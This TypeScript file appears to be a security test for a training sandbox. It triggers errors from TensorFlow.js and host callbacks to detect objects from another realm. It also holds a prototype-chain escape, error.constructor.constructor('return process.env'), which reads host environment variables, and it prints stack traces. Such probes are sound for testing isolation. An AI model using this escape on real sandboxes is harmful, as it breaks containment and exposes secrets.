// attack: collects every refusal that the host sends and climbs from each to a realm that is not its own
// success: ESCAPED in the log, or a path or stack of the host in it
// expect: runtime_error
// says: nothing was found

import * as tf from '@tensorflow/tfjs';
import type { TrainContext } from 'argmin';

export async function train({ report, checkpoint }: TrainContext): Promise<tf.LayersModel> {
  const backend = tf.backend() as any;
  const raise: (() => unknown)[] = [
    () => backend.readSync({ handle: 999_999, dtype: 'float32' }),
    () => tf.tensor([1, 2, 3]).reshape([2, 2]),
    () => (tf.engine() as any).runKernel('NoSuchKernel', {}),
    () => tf.getKernel('Add', tf.getBackend())?.kernelFunc({ inputs: {}, attrs: {}, backend } as any),
    () => tf.zeros([1e9]),
    () => tf.zeros([-1]),
    () => backend.write(new Float32Array(3), [7], 'float32'),
    () => checkpoint({} as any),
    () => report(null as any),
  ];
  for (const attempt of raise) {
    try {
      attempt();
    } catch (thrown) {
      const error = thrown as any;
      if (!(error instanceof Error)) console.log('ESCAPED: an error of another realm', typeof error);
      if (
        Object.getPrototypeOf(Object.getPrototypeOf(error)) !== Error.prototype &&
        Object.getPrototypeOf(error) !== Error.prototype
      ) {
        console.log('ESCAPED: a prototype of another realm');
      }
      try {
        console.log('ESCAPED', error.constructor.constructor('return process.env')());
      } catch {
        console.log(error.name, error.message, String(error.stack).slice(0, 3_000));
      }
    }
  }
  throw new Error('nothing was found');
}
